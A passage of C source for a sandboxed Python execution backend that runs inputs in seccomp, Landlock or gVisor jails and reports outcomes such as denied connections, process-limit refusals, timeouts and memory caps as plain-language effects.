			out->layer = "seccomp";
		}
	if (out->refused != NULL || r->status != WW_RAISED ||
	    r->error == NULL ||
	    strncmp(r->error, "PermissionError: [Errno 13]", 27) != 0)
		return;
	for (i = r->nevents; i > 0 && out->refused == NULL; i--) {
		size_t k;
		for (k = 0; path_calls[k].event != NULL; k++)
			if (is_event(&r->events[i - 1], path_calls[k].event))
				break;
		if (path_calls[k].event == NULL)
			continue;
		out->refused = arena_printf(a, "%s %s is forbidden: it is "
		    "outside what the jail grants", path_calls[k].doing,
		    shown(a, arg(&r->events[i - 1], 0)));
		out->layer = "landlock";
	}
}

/*
 * In a jail world an audit event is what the code asked for, not what
 * happened: a program it asked to run, a request or connection it asked
 * to make, the kernel refused (the "denied" effects say so, from the
 * seccomp supervisor).  Those effects are told as attempts, with no
 * category of harm; what did happen inside (a fork, a file removed) is
 * left as it is.  In any world without the fake internet, a request or
 * connection is an attempt too: there was no network to carry it.
 */
static void
jail_intentions(const struct cpy *c, struct effects *e, size_t from)
{
	bool jail = c->kind == WORLD_KIND_JAIL;
	size_t i;

	if (world_kind_has_fakenet(c->kind))
		return;
	for (i = from; i < e->n; i++) {
		struct world_effect *f = &e->v[i];

		if (jail && strcmp(f->op, "denied") == 0)
			f->source = "seccomp";
		else if (world_kind_contains(c->kind) &&
		    strcmp(f->op, "exec") == 0 && strncmp(f->text,
		    "could not start a process", 25) != 0) {
			/* (in gVisor, its Sentry runs it, in its sandbox) */
			f->category = NULL;
			f->text = arena_printf(e->a, c->kind ==
			    WORLD_KIND_GVISOR ? "ran %s inside gVisor's "
			    "sandbox" : "tried to run %s", f->target);
		} else if (strcmp(f->op, "send") == 0 ||
		    strcmp(f->op, "connect") == 0) {
			static const char *const verbs[][2] = {
				{ "sent ", "tried to send " },
				{ "fetched ", "tried to fetch " },
				{ "connected ", "tried to connect " },
			};
			size_t v, l;

			f->category = NULL;
			for (v = 0; v < sizeof verbs / sizeof verbs[0]; v++) {
				l = strlen(verbs[v][0]);
				if (strncmp(f->text, verbs[v][0], l) == 0) {
					f->text = arena_printf(e->a, "%s%s",
					    verbs[v][1], f->text + l);
					break;
				}
			}
		}
	}
}

/* A jail world's fork bomb: fork's EAGAIN is RLIMIT_NPROC stopping it. */
static void
jail_limit(const struct cpy *c, const struct raw *r, struct arena *a,
    struct world_reply *out)
{
	size_t i;

	if (!world_kind_contains(c->kind) || out->status != WORLD_RAISED ||
	    strncmp(out->error, "BlockingIOError", 15) != 0)
		return;
	for (i = 0; i < r->nevents; i++)
		if (is_event(&r->events[i], "os.fork")) {
			out->status = WORLD_KILLED;
			out->layer = "rlimit";
			out->error = arena_printf(a, "RLIMIT_NPROC (%d "
			    "processes) refused os.fork: %s", WORLD_NPROC,
			    out->error);
			return;
		}
}

/* A program the input could not start because the world's process
 * limit was full: the outcome says so in words, never a green ok. */
static void
spawn_limit(const struct effects *e, struct arena *a,
    struct world_reply *out)
{
	size_t i;

	if (out->status != WORLD_OK && out->status != WORLD_RAISED)
		return;
	for (i = 0; i < e->n; i++)
		if (strcmp(e->v[i].op, "exec") == 0 &&
		    strncmp(e->v[i].text, "could not start a process: ", 27)
		    == 0) {
			out->error = out->status == WORLD_RAISED ?
			    arena_printf(a, "%s; then %s", e->v[i].text,
			    out->error) : e->v[i].text;
			out->status = WORLD_KILLED;
			out->layer = "rlimit";
			return;
		}
}

/*
 * Send one input (cpy_start) and read its reply (cpy_run) may be two
 * calls, so that the session can start an input on every path's world
 * before it reads the first reply: the worlds run side by side, and the
 * wall clock of each counts from its own start.  What went wrong while
 * sending is kept for cpy_run to say.
 */
static void
cpy_start(struct world *w, const struct world_input *in)
{
	struct cpy *c = w->impl;
	struct arena *a = in->a;
	char flags = (char)((in->setup ? WW_SETUP : 0) |
	    (in->literals ? WW_LITERALS : 0));
	char *err = NULL;

	if (c->inflight)
		return;
	c->inflight = true;
	c->live = in->live;
	c->live_ctx = in->live_ctx;
	c->live_bytes = 0;
	c->start_status = WORLD_OK;
	c->start_error = NULL;
	c->restarted = false;
	c->interrupted = false;
	c->started_ms = clock_ms();
	if (c->sock < 0) {
		/* It died (or was killed): a fresh one, as a notebook
		 * restarts its kernel. */
		if (!start(c, &err)) {
			c->start_status = WORLD_LOST;
			c->start_error = arena_printf(a, "the world could not "
			    "be rebuilt: %s", err);
			free(err);
			return;
		}
		c->restarted = c->died;
		c->died = false;
		c->started_ms = clock_ms();
	}
	if (in->len > WW_MAX_SOURCE) {
		c->start_status = WORLD_RAISED;
		c->start_error = arena_printf(a, "SyntaxError: the input is "
		    "over %u bytes (column %u)", WW_MAX_SOURCE,
		    WW_MAX_SOURCE + 1);
		return;
	}
	if ((in->command != NULL && !send_frame(c, WW_COMMAND, in->command,
	    strlen(in->command), NULL, 0)) ||
	    !send_input(c, flags, in->src, in->len)) {
		kill_world(c);
		c->died = true;
		c->start_status = WORLD_LOST;
		c->start_error = "the world had died; it restarts on the next "
		    "input";
		return;
	}
	pump_add(c);
}

/* An input started and never read: its world cannot be trusted to be
 * between inputs, so it goes (a fresh one starts on the next input). */
static void
cpy_settle(struct world *w)
{
	struct cpy *c = w->impl;

	if (!c->inflight)
		return;
	c->inflight = false;
	pump_drop(c);
	kill_world(c);
	c->died = true;
}

static void
cpy_run(struct world *w, const struct world_input *in,
    struct world_reply *out)
{
	struct cpy *c = w->impl;
	struct arena *a = in->a;
	struct effects e = { .a = a, .source = "world" };
	struct raw r;
	enum read_end end;

	memset(out, 0, sizeof *out);
	cpy_start(w, in);	/* (nothing when the session started it) */
	c->inflight = false;
	out->restarted = c->restarted;
	if (c->start_status != WORLD_OK) {
		out->status = c->start_status;
		out->error = c->start_error;
		return;
	}
	c->running = true;
	{
		double deadline = c->started_ms + c->wall_ms;
		end = pump_finish(c, &deadline);
		if (end == READ_OK)
			end = read_reply(c, deadline, a, &r);
		else
			memset(&r, 0, sizeof r);
	}
	c->running = false;
	if (end == READ_TIMEOUT) {
		/* The wall clock, or Ctrl-C and the code did not end
		 * within the grace period (an error the user asked for,
		 * not a limit): the world goes either way. */
		kill_world(c);
		c->died = true;
		if (c->interrupted) {
			out->status = WORLD_LOST;
			out->error = arena_printf(a, "KeyboardInterrupt: still "
			    "running %u ms after Ctrl-C: the world was killed "
			    "(a fresh one starts on the next input)",
			    INTERRUPT_GRACE_MS);
			effect(&e, "interrupt", "world", NULL, out->error);
		} else {
			out->status = WORLD_KILLED;
			out->layer = "timeout";
			out->error = arena_printf(a, "still running after %u "
			    "ms of wall-clock time: the world was killed (a "
			    "fresh one starts on the next input)", c->wall_ms);
			effect(&e, "exhaust", "wall clock", "resource "
			    "exhaustion", out->error);
		}
		raw_free(&r);
		goto effects;
	}
	/* (r.status is RAW_ENDED when the interpreter ended during the
	 * input -- os._exit, a signal, a crash -- and PID 1 sent what it
	 * left: the world is gone) */
	if (end != READ_OK || !r.has_end) {
		kill_world(c);
		c->died = true;
		out->status = WORLD_LOST;
		out->error = end == READ_BAD ? "the world's reply broke the "
		    "protocol (did the code write to its socket?): the world "
		    "was killed (a fresh one starts on the next input)" :
		    "the world died during the input (it restarts on the "
		    "next input)";
		effect(&e, "exit", "world", "process", out->error);
		raw_free(&r);
		goto effects;
	}
	/* What reached the fake internet, first into a list of its own: it
	 * decides how the audit events' connections are told. */
	{
		struct effects sink = { .a = a, .source = "sink", .c = c };
		char why[160];
		size_t k;

		/* (a kind without the fake internet has no network at
		 * all: nothing to read) */
		if (world_kind_has_fakenet(c->kind) &&
		    fakenet_read_captures(&c->net, 1000, on_capture, &sink,
		    why, sizeof why) == -1)
			effect(&sink, "lost", "captures", NULL, arena_printf(a,
			    "the fake internet did not answer: %s", why));
		e.captured = sink.captured;
		e.source = "audit";
		k = e.n;
		event_effects(&e, &r);
		jail_intentions(c, &e, k);
		for (k = 0; k < sink.n; k++)
			add_effect(&e, sink.v[k].op, sink.v[k].target,
			    sink.v[k].category, sink.v[k].text, "sink");
	}
	jail_refusal(c, &r, a, out);
	keep_names(c, &r);
	{
		/* (the session's copy: bounded, and never what the world
		 * no longer has) */
		struct keep k;
		keep_start(&k, in->files_cap, c->files, a);
		keep_sent(&k, r.files, c->files, a);
		keep_unreadable(&k, r.files, c->files);
		out->truncated = read_back_note(c, &r, c->files, &k, a);
		out->fs_partial = out->truncated != NULL;
		out->truncated = cut_notes(&r, a, out->truncated);
		e.source = "workspace";
		diff_effects(&e, c->files, r.files, k.unknown,
		    in->command != NULL);
	}
	e.source = "output";
	mfs_free(c->files);
	c->files = r.files;
	r.files = NULL;
	/* The output is what a terminal would have shown, the prompt's
	 * echoes and traceback included -- but for the echo of the result
	 * when it came last: the result is that echo, and the screen shows
	 * it after the output as the prompt does.  The print effect also
	 * leaves out a traceback the prompt printed last, which is an effect
	 * of its own (the reason says its last line; a trace line tells
	 * what was printed, and a traceback is not that). */
	if (r.output_len > 0) {
		size_t n, keep, tail, k;
		struct world_chunk *ck;
		const char *all;
		char *t;

		ck = output_chunks(a, r.output, r.output_len, &out->nchunks,
		    &n);
		all = output_text(a, ck, out->nchunks, n);
		tail = r.tail <= n ? r.tail : 0;	/* (text bytes) */
		keep = n - tail;
		/* the print effect and the trace keep the text as one */
		t = arena_strndup(a, all, keep);
		n = strlen(t);	/* (an effect's text ends at a NUL) */
		if (n > 0 && t[n - 1] == '\n')
			t[--n] = '\0';
		out->output = t;
		if (n > 0)
			effect(&e, "print", "stdout", NULL, t);
		if (r.tail_kind == WW_TAIL_TRACEBACK && tail > 0) {
			t = arena_strndup(a, all + keep, tail);
			n = strlen(t);
			if (n > 0 && t[n - 1] == '\n')
				t[--n] = '\0';
			if (n > 0)
				effect(&e, "traceback", "stderr", NULL, t);
		} else if (r.tail_kind == WW_TAIL_ECHO)
			/* the chunks without the echo's bytes, from the end */
			for (k = out->nchunks; k > 0 && tail > 0; k--) {
				size_t cut = tail < ck[k - 1].len ? tail :
				    ck[k - 1].len;
				ck[k - 1].len -= cut;
				((char *)ck[k - 1].text)[ck[k - 1].len] = '\0';
				tail -= cut;
				if (ck[k - 1].len == 0)
					out->nchunks--;
			}
		out->chunks = ck;
	}
	e.source = "world";
	out->result = r.result;
	out->message = r.message;
	switch (r.status) {
	case WW_OK:
		out->status = WORLD_OK;
		break;
	case WW_RAISED:
		out->status = WORLD_RAISED;
		out->error = r.error ? r.error : "SystemError: no message";
		break;
	case WW_EXITED: {
		/* SystemExit: PID 1 says with which status (Z) */
		struct raw k;
		const char *how = "exited";
		if (read_reply(c, clock_ms() + 1000, a, &k) == READ_OK &&
		    k.ended)
			how = ended_how(a, k.wstatus);
		raw_free(&k);
		out->status = WORLD_OK;
		out->exited = arena_printf(a, "the interpreter %s (%s); a "
		    "fresh world starts on the next input", how, r.error ?
		    r.error : "SystemExit");
		effect(&e, "exit", "python", "process", out->exited);
		kill_world(c);
		c->died = true;
		break;
	}
	case RAW_ENDED:
		out->status = WORLD_LOST;
		out->error = arena_printf(a, "the interpreter %s during the "
		    "input; a fresh world starts on the next input",
		    ended_how(a, r.wstatus));
		effect(&e, "exit", "python", "process", out->error);
		kill_world(c);
		c->died = true;
		break;
	case WW_NOMEM:
		out->status = WORLD_KILLED;
		out->layer = "rlimit";
		out->error = arena_printf(a, "MemoryError: the world's "
		    "address space is capped at %llu MiB per process",
		    (unsigned long long)(world_as_over(c->mem) >> 20));
		effect(&e, "exhaust", "memory", "resource exhaustion",
		    out->error);
		break;
	}
	jail_limit(c, &r, a, out);
	spawn_limit(&e, a, out);
	raw_free(&r);
effects:
	out->effects = e.v;
	out->neffects = e.n;
}

static void
cpy_read_back(struct world *w, struct mfs *fs)
{
	struct cpy *c = w->impl;

	if (c->files != NULL)
		mfs_assign(fs, c->files);
}

static void
cpy_destroy(struct world *w)
{
	struct cpy *c = w->impl;
	size_t i;

	pump_drop(c);
	kill_world(c);
	mfs_free(c->files);
	for (i = 0; i < c->nenv; i++)
		free(c->env[i]);
	free(c->env);
	free(c->setup);
	free_names(c);
	free(c);
}

static const char *const *
cpy_names(const struct world *w, size_t *n)
{
	static const char *const none[1] = { NULL };
	const struct cpy *c = w->impl;

	*n = c->nnames;
	/* (none is an answer too: NULL would mean "ask the namespace") */
	return c->names != NULL ? (const char *const *)c->names : none;
}

static const char *const *
cpy_literals(const struct world *w, size_t *n)
{
	const struct cpy *c = w->impl;

	*n = c->nlits;
	return (const char *const *)c->lits;
}

const struct world_ops world_cpython_ops = {
	.engine = WORLD_ENGINE_CPYTHON,
	.compiles = true,
	.build = cpy_build,
	.start_input = cpy_start,
	.run_input = cpy_run,
	.settle = cpy_settle,
	.read_back = cpy_read_back,
	.destroy = cpy_destroy,
	.names = cpy_names,
	.literals = cpy_literals,
};

void *
world_cpython_new(unsigned wall_ms, int fail_at, int kind)
{
	struct cpy *c = xcalloc(1, sizeof *c);

	c->kind = kind;
	c->sock = c->pidfd = -1;
	c->net.fd = c->net.ctl = -1;
	c->wall_ms = wall_ms ? wall_ms : WORLD_DEFAULT_WALL_MS;
	/* (a gVisor world's worker sets the default's rlimits itself:
	 * gvisor.c) */
	c->mem = world_memory();
	c->fail_at = fail_at;
	return c;
}
